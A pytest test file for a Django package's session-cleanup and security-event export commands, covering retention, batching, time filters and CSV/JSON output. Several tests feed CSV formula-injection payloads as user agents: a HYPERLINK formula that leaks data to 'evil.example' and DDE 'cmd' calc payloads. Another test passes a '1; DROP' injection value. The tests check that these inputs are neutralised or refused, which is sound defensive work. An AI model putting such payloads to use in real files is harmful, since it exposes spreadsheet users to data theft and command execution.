"""The ``nilva_session_cleanup`` management command."""

from __future__ import annotations

import csv
import json
import re
import uuid
from datetime import datetime, timedelta
from datetime import timezone as dt_timezone
from io import StringIO

import pytest
from django.core.management import call_command
from django.core.management.base import CommandError
from django.test import override_settings
from django.utils import timezone

from nilva_session import events, utils
from nilva_session.events import FIELDS, as_dict
from nilva_session.models import EndReason, EventKind, SessionEvent, UserSession
from tests.conftest import DESKTOP_UA

pytestmark = pytest.mark.django_db


def make_session(
    user, *, expire_in=timedelta(days=1), ended_ago=None, last_online_ago=None, ended_at_null=False
):
    """Create a session; ``ended_ago`` ends it that long ago (``ended_at_null`` as 0.1.x did)."""
    now = timezone.now()
    session = UserSession.objects.create(
        user=user,
        key=utils.hash_data(utils.token_generator()),
        user_agent=DESKTOP_UA,
        expire_at=None if expire_in is None else now + expire_in,
    )
    changes = {}
    if ended_ago is not None:
        changes.update(
            is_active=False,
            end_reason=EndReason.LOGOUT,
            ended_at=None if ended_at_null else now - ended_ago,
        )
    if last_online_ago is not None:
        changes["last_online"] = now - last_online_ago
    if changes:
        UserSession.objects.filter(pk=session.pk).update(**changes)
    return session


def run(*args):
    out = StringIO()
    call_command("nilva_session_cleanup", *args, stdout=out)
    return out.getvalue()


def remaining():
    return set(UserSession.objects.values_list("pk", flat=True))


@pytest.fixture
def population(user):
    """Sessions the default retention (30 days) keeps, and ones it deletes."""
    keep = {
        "active": make_session(user),
        "active_forever": make_session(user, expire_in=None),
        "ended_recently": make_session(user, ended_ago=timedelta(days=1)),
        "ended_29_days_ago": make_session(user, ended_ago=timedelta(days=29)),
        "legacy_ended_recently": make_session(
            user, ended_ago=timedelta(0), ended_at_null=True, last_online_ago=timedelta(days=2)
        ),
    }
    delete = {
        "expired": make_session(user, expire_in=-timedelta(minutes=1)),
        "expired_long_ago": make_session(user, expire_in=-timedelta(days=90)),
        "ended_long_ago": make_session(user, ended_ago=timedelta(days=31)),
        "legacy_ended_long_ago": make_session(
            user, ended_ago=timedelta(0), ended_at_null=True, last_online_ago=timedelta(days=40)
        ),
    }
    return keep, delete


def pks(sessions):
    return {s.pk for s in sessions.values()}


def test_deletes_expired_and_old_ended_sessions_only(population):
    keep, _ = population
    run()
    assert remaining() == pks(keep)


def test_reports_the_number_deleted(population):
    _, delete = population
    output = run()
    assert re.search(rf"Deleted {len(delete)} sessions in 1 batches", output)


def test_nothing_to_delete(user):
    session = make_session(user)
    output = run()
    assert "Deleted 0 sessions in 0 batches" in output
    assert remaining() == {session.pk}


def test_dry_run_deletes_nothing_and_prints_the_count(population):
    keep, delete = population
    output = run("--dry-run")
    assert f"Would delete {len(delete)} sessions" in output
    assert remaining() == pks(keep) | pks(delete)


def test_retention_days_option(population):
    keep, _ = population
    run("--retention-days", "7")
    # Ended 29 days ago is now past retention; ended yesterday is not.
    assert remaining() == pks(keep) - {keep["ended_29_days_ago"].pk}


def test_retention_days_zero_deletes_every_ended_session(population):
    keep, _ = population
    run("--retention-days=0")
    assert remaining() == {keep["active"].pk, keep["active_forever"].pk}


def test_retention_days_accepts_fractions(user):
    twelve_hours = make_session(user, ended_ago=timedelta(hours=12))
    two_hours = make_session(user, ended_ago=timedelta(hours=2))
    run("--retention-days", "0.25")
    assert remaining() == {two_hours.pk}
    assert twelve_hours.pk not in remaining()


def test_revoked_retention_setting_is_used(population):
    keep, _ = population
    with override_settings(NILVA_SESSION={"REVOKED_RETENTION": timedelta(days=10)}):
        run()
    assert remaining() == pks(keep) - {keep["ended_29_days_ago"].pk}


def test_revoked_retention_in_seconds(user):
    old = make_session(user, ended_ago=timedelta(hours=2))
    new = make_session(user, ended_ago=timedelta(minutes=10))
    with override_settings(NILVA_SESSION={"REVOKED_RETENTION": 3600}):
        run()
    assert remaining() == {new.pk}
    assert old.pk not in remaining()


def test_retention_option_wins_over_setting(population):
    keep, _ = population
    with override_settings(NILVA_SESSION={"REVOKED_RETENTION": timedelta(days=1000)}):
        run("--retention-days", "30")
    assert remaining() == pks(keep)


def test_batches(user):
    for _ in range(7):
        make_session(user, expire_in=-timedelta(hours=1))
    kept = make_session(user)
    output = run("--batch-size", "3")
    assert "Deleted 7 sessions in 3 batches" in output
    assert remaining() == {kept.pk}


def test_batch_size_of_exact_multiple(user):
    for _ in range(6):
        make_session(user, expire_in=-timedelta(hours=1))
    assert "Deleted 6 sessions in 2 batches" in run("--batch-size=3")


def test_batch_size_one(user):
    for _ in range(3):
        make_session(user, ended_ago=timedelta(days=60))
    assert "Deleted 3 sessions in 3 batches" in run("--batch-size", "1")
    assert remaining() == set()


def test_options_as_keyword_arguments(population):
    keep, delete = population
    out = StringIO()
    call_command("nilva_session_cleanup", batch_size=2, retention_days=30, stdout=out)
    assert f"Deleted {len(delete)} sessions in 2 batches" in out.getvalue()
    assert remaining() == pks(keep)


def test_dry_run_honours_retention(population):
    _, delete = population
    assert f"Would delete {len(delete) + 1} sessions" in run("--dry-run", "--retention-days", "7")


@pytest.mark.parametrize(
    "args",
    [
        ("--batch-size", "0"),
        ("--batch-size", "-3"),
        ("--batch-size", "many"),
        ("--retention-days", "-1"),
        ("--retention-days", "soon"),
        ("--retention-days", "nan"),
        ("--retention-days", "inf"),
        ("--retention-days", "1e9"),
        ("--retention-days", "1000000"),
        ("--no-such-option",),
    ],
)
def test_invalid_options_raise_command_error(population, args):
    with pytest.raises(CommandError):
        run(*args)
    keep, delete = population
    assert remaining() == pks(keep) | pks(delete)


def test_deletes_what_authentication_refuses_for_time_and_keeps_ended_sessions_for_retention(
    user,
):
    """The rule of ``sessions.live``: idle and capped sessions go; ended ones wait out retention."""
    with override_settings(
        NILVA_SESSION={
            "IDLE_TIMEOUT": timedelta(minutes=10),
            "ABSOLUTE_LIFETIME": timedelta(days=2),
        }
    ):
        live = make_session(user, last_online_ago=timedelta(minutes=9))
        make_session(user, last_online_ago=timedelta(minutes=11))
        capped = make_session(user)
        UserSession.objects.filter(pk=capped.pk).update(
            created_at=timezone.now() - timedelta(days=3)
        )
        ended_idle = make_session(
            user, ended_ago=timedelta(days=1), last_online_ago=timedelta(days=1)
        )
        ended_expired = make_session(
            user, expire_in=-timedelta(hours=1), ended_ago=timedelta(days=1)
        )
        run()
    assert remaining() == {live.pk, ended_idle.pk, ended_expired.pk}


# --------------------------------------------------------------------------------------------
# nilva_session_events: the export of security events
# --------------------------------------------------------------------------------------------


def make_event(kind=EventKind.LOGIN, *, ago=timedelta(minutes=1), at=None, **fields):
    """Emit (and so store) one event, ``ago`` before now or at ``at``."""
    return events.record(kind, at=at if at is not None else timezone.now() - ago, **fields)


def export(*args) -> str:
    out = StringIO()
    call_command("nilva_session_events", *args, stdout=out)
    return out.getvalue()


def exported(*args) -> list[dict]:
    return [json.loads(line) for line in export(*args).splitlines()]


def exported_ids(*args) -> list[int]:
    return [line["id"] for line in exported(*args)]


def csv_rows(*args) -> list[list[str]]:
    return list(csv.reader(StringIO(export("--format", "csv", *args), newline="")))


def test_export_jsonl_lines_parse_and_are_oldest_first(user):
    late = make_event(ago=timedelta(hours=1), user_id=user.pk)
    early = make_event(EventKind.REVOKED, ago=timedelta(hours=3), reason="logout")
    middle = make_event(ago=timedelta(hours=2), user_agent='Müller\nbrowser, "quoted"')
    same_time = timezone.now() - timedelta(minutes=30)
    first_tied, second_tied = events.emit(
        [events.new(EventKind.ROTATED, at=same_time), events.new(EventKind.LOGIN, at=same_time)]
    )

    output = export()
    lines = output.splitlines()
    assert len(lines) == 5  # one line per event, the newline in a user agent escaped
    assert output.endswith("\n")
    parsed = [json.loads(line) for line in lines]
    order = [early, middle, late, first_tied, second_tied]
    assert [line["id"] for line in parsed] == [e.pk for e in order]
    assert parsed == [as_dict(SessionEvent.objects.get(pk=e.pk)) for e in order]
    assert parsed[1]["user_agent"] == 'Müller\nbrowser, "quoted"'
    times = [line["time"] for line in parsed]
    assert times == sorted(times)


@pytest.fixture
def aged_events(db):
    """Events of several ages, by label."""
    ages = {
        "10m": timedelta(minutes=10),
        "2h": timedelta(hours=2),
        "3d": timedelta(days=3),
        "10d": timedelta(days=10),
        "20d": timedelta(days=20),
    }
    return {label: make_event(ago=age).pk for label, age in ages.items()}


@pytest.mark.parametrize(
    ("since", "labels"),
    [
        ("90s", []),
        ("30m", ["10m"]),
        ("12h", ["2h", "10m"]),
        ("7d", ["3d", "2h", "10m"]),
        ("2w", ["10d", "3d", "2h", "10m"]),
        ("4w", ["20d", "10d", "3d", "2h", "10m"]),
        (" 12h ", ["2h", "10m"]),
    ],
)
def test_export_since_relative(aged_events, since, labels):
    assert exported_ids("--since", since) == [aged_events[label] for label in labels]


def test_export_since_defaults_to_one_day(aged_events):
    assert exported_ids() == [aged_events["2h"], aged_events["10m"]]


def test_export_until_relative(aged_events):
    assert exported_ids("--since", "2w", "--until", "1h") == [
        aged_events["10d"],
        aged_events["3d"],
        aged_events["2h"],
    ]


@pytest.fixture
def march_events(db):
    """Two events on 2024-03-01: at 10:00 and 12:00 UTC."""
    ten = make_event(at=datetime(2024, 3, 1, 10, tzinfo=dt_timezone.utc))
    noon = make_event(at=datetime(2024, 3, 1, 12, tzinfo=dt_timezone.utc))
    return ten.pk, noon.pk


@pytest.mark.parametrize(
    ("since", "expected"),
    [
        ("2024-03-01T11:00:00+00:00", "noon"),
        ("2024-03-01T11:00:00Z", "noon"),
        ("2024-03-01T14:00:00+03:30", "noon"),  # 10:30 UTC
        ("2024-03-01T13:00:00+03:30", "both"),  # 09:30 UTC
        ("2024-03-01T10:00:00Z", "both"),  # the bound itself is in
        ("2024-03-01T12:00:00.000001Z", "none"),
        ("2024-03-01T11:00:00", "noon"),  # naive: TIME_ZONE (UTC in the tests)
        ("2024-03-01 11:00", "noon"),
    ],
)
def test_export_since_iso(march_events, since, expected):
    ten, noon = march_events
    want = {"noon": [noon], "both": [ten, noon], "none": []}[expected]
    assert exported_ids("--since", since) == want


def test_export_since_naive_iso_is_in_time_zone(march_events):
    ten, noon = march_events
    with override_settings(TIME_ZONE="Asia/Tehran"):  # +03:30
        assert exported_ids("--since", "2024-03-01T13:00:00") == [ten, noon]  # 09:30 UTC
        assert exported_ids("--since", "2024-03-01T14:00:00") == [noon]  # 10:30 UTC
    assert exported_ids("--since", "2024-03-01T13:00:00") == []  # 13:00 UTC


def test_export_until_iso_is_exclusive(march_events):
    ten, noon = march_events
    since = ("--since", "2024-03-01T00:00:00Z")
    assert exported_ids(*since, "--until", "2024-03-01T12:00:00Z") == [ten]
    assert exported_ids(*since, "--until", "2024-03-01T12:00:00.000001Z") == [ten, noon]
    assert exported_ids(*since, "--until", "2024-03-01T10:00:00Z") == []


def test_export_kind_filter_with_two_kinds(db):
    login = make_event(EventKind.LOGIN, ago=timedelta(minutes=4))
    make_event(EventKind.REVOKED, ago=timedelta(minutes=3))
    suspended = make_event(EventKind.SUSPENDED, ago=timedelta(minutes=2))
    make_event(EventKind.ROTATED, ago=timedelta(minutes=1))
    assert exported_ids("--kind", "login", "--kind", "suspended") == [login.pk, suspended.pk]
    assert exported_ids("--kind", "suspended") == [suspended.pk]


def test_export_unknown_kind_is_a_command_error(db):
    make_event()
    with pytest.raises(CommandError):
        export("--kind", "logged_in")


def test_export_user_filter(user, other_user):
    mine = [make_event(user_id=user.pk, ago=timedelta(minutes=m)) for m in (3, 1)]
    make_event(user_id=other_user.pk, ago=timedelta(minutes=2))
    make_event(EventKind.LOGIN_FAILED, user_id=None)
    assert exported_ids("--user", str(user.pk)) == [e.pk for e in mine]
    assert exported_ids("--user", str(other_user.pk + user.pk + 100)) == []


def test_export_after_id(db):
    made = [make_event(ago=timedelta(minutes=m)) for m in (4, 3, 2, 1)]
    assert exported_ids("--after-id", str(made[1].pk)) == [made[2].pk, made[3].pk]
    assert exported_ids("--after-id", str(made[3].pk)) == []
    assert exported_ids("--after-id", "0") == [e.pk for e in made]


def test_export_csv_header_and_rows(user):
    session_id = uuid.uuid4()
    data = {"detail": 'User agent changed, from "A" to B.'}
    first = make_event(
        EventKind.SUSPENDED,
        ago=timedelta(minutes=2),
        user_id=user.pk,
        session_id=session_id,
        ip="198.51.100.4",
        user_agent="Agent, with a comma",
        reason="user_agent_changed",
        data=data,
    )
    second = make_event(EventKind.LOGIN_FAILED, ago=timedelta(minutes=1))

    header, *rows = csv_rows()
    assert header == list(FIELDS)
    assert len(rows) == 2
    row = dict(zip(header, rows[0], strict=True))
    stored = as_dict(SessionEvent.objects.get(pk=first.pk))
    assert row["id"] == str(first.pk)
    assert row["time"] == stored["time"]
    assert row["time"].endswith("Z")
    assert row["kind"] == "suspended"
    assert row["user_id"] == str(user.pk)
    assert row["session_id"] == str(session_id)
    assert row["ip"] == "198.51.100.4"
    assert row["user_agent"] == "Agent, with a comma"
    assert row["reason"] == "user_agent_changed"
    assert json.loads(row["data"]) == data
    empty = dict(zip(header, rows[1], strict=True))
    assert empty["id"] == str(second.pk)
    assert (empty["user_id"], empty["session_id"], empty["ip"]) == ("", "", "")
    assert json.loads(empty["data"]) == {}


@pytest.mark.parametrize(
    "agent",
    [
        '=HYPERLINK("https://evil.example/?leak="&A1,"Click me")',
        "+1+cmd|' /C calc'!A0",
        "-2+3",
        "@SUM(1+1)*cmd|' /C calc'!A0",
        "\t=1+1",
        "\r=1+1",
    ],
)
def test_export_csv_neutralises_formula_cells(db, agent):
    make_event(user_agent=agent)
    make_event(user_agent=DESKTOP_UA)
    header, formula_row, plain_row = csv_rows()
    column = header.index("user_agent")
    assert formula_row[column] == "'" + agent
    assert plain_row[column] == DESKTOP_UA
    # JSON lines are not a spreadsheet: the value is exported as it is.
    assert exported()[0]["user_agent"] == agent


@pytest.mark.parametrize(
    "agent",
    [
        'Mozilla/5.0\r=HYPERLINK("https://evil.example/","x")',
        'Mozilla/5.0\r\n=HYPERLINK("https://evil.example/","x")',
        'Mozilla/5.0\n=HYPERLINK("https://evil.example/","x")',
    ],
)
def test_export_csv_line_breaks_in_a_cell_start_no_row(db, agent):
    """A CR or LF inside a user agent stays in its (quoted) cell: no new row, no formula."""
    made = make_event(user_agent=agent)
    after = make_event(ago=timedelta(seconds=1))
    header, *rows = csv_rows()
    assert [row[0] for row in rows] == [str(made.pk), str(after.pk)]
    row = dict(zip(header, rows[0], strict=True))
    assert row["user_agent"] == agent
    assert row["data"] == "{}"


@pytest.mark.parametrize(
    "value", ["yesterday", "5y", "1.5h", "-1d", "2024-13-45T00:00:00", "999999w", "12 h"]
)
@pytest.mark.parametrize("option", ["--since", "--until"])
def test_export_invalid_time_is_a_command_error(db, option, value):
    make_event()
    with pytest.raises(CommandError, match="ISO 8601"):
        export(f"{option}={value}")


@pytest.mark.parametrize("value", ["abc", "1.5", "", "99999999999999999999", "1; DROP"])
@pytest.mark.parametrize("output_format", ["jsonl", "csv"])
def test_export_user_that_is_no_primary_key_is_a_command_error(user, value, output_format):
    make_event(user_id=user.pk)
    out = StringIO()
    with pytest.raises(CommandError, match="--user"):
        call_command("nilva_session_events", "--user", value, "--format", output_format, stdout=out)
    assert out.getvalue() == ""  # refused before anything was written


def test_export_empty_result(db):
    make_event(ago=timedelta(days=3))  # outside the default day
    assert export() == ""
    assert export("--format", "jsonl") == ""
    assert csv_rows() == [list(FIELDS)]
    assert export("--format", "csv") == ",".join(FIELDS) + "\n"


# --------------------------------------------------------------------------------------------
# nilva_session_cleanup and events
# --------------------------------------------------------------------------------------------


def event_ids():
    return set(SessionEvent.objects.values_list("pk", flat=True))


def test_cleanup_deletes_events_past_event_retention_and_keeps_recent_ones(user):
    old = [make_event(ago=timedelta(days=d)) for d in (91, 365)]
    recent = [make_event(ago=timedelta(days=d)) for d in (89, 1)]
    recent.append(make_event(ago=timedelta(minutes=1)))
    output = run()
    assert event_ids() == {e.pk for e in recent}
    assert not {e.pk for e in old} & event_ids()
    assert "Deleted 2 security events" in output


def test_cleanup_uses_the_event_retention_setting(db):
    old = make_event(ago=timedelta(days=11))
    kept = make_event(ago=timedelta(days=9))
    with override_settings(NILVA_SESSION={"EVENT_RETENTION": timedelta(days=10)}):
        run()
    assert event_ids() == {kept.pk}
    assert old.pk not in event_ids()


def test_cleanup_event_retention_in_seconds(db):
    make_event(ago=timedelta(hours=2))
    kept = make_event(ago=timedelta(minutes=30))
    with override_settings(NILVA_SESSION={"EVENT_RETENTION": 3600}):
        run()
    assert event_ids() == {kept.pk}


def test_cleanup_deletes_old_events_in_batches(db):
    for days in range(91, 98):
        make_event(ago=timedelta(days=days))
    kept = make_event()
    output = run("--batch-size", "3")
    assert event_ids() == {kept.pk}
    assert "Deleted 7 security events" in output


def test_cleanup_session_retention_does_not_apply_to_events(db):
    kept = make_event(ago=timedelta(days=30))
    run("--retention-days", "0")
    assert event_ids() == {kept.pk}


def test_cleanup_dry_run_deletes_no_events(db):
    made = {make_event(ago=timedelta(days=d)).pk for d in (1, 200)}
    run("--dry-run")
    assert event_ids() == made


@pytest.mark.django_db
@pytest.mark.parametrize("value", ["0001-01-01T00:00+05:00", "9999-12-31T23:59-05:00"])
def test_events_export_refuses_a_time_out_of_range_by_its_name(value):
    from django.core.management import CommandError, call_command

    with pytest.raises(CommandError, match="--since"):
        call_command("nilva_session_events", "--since", value)
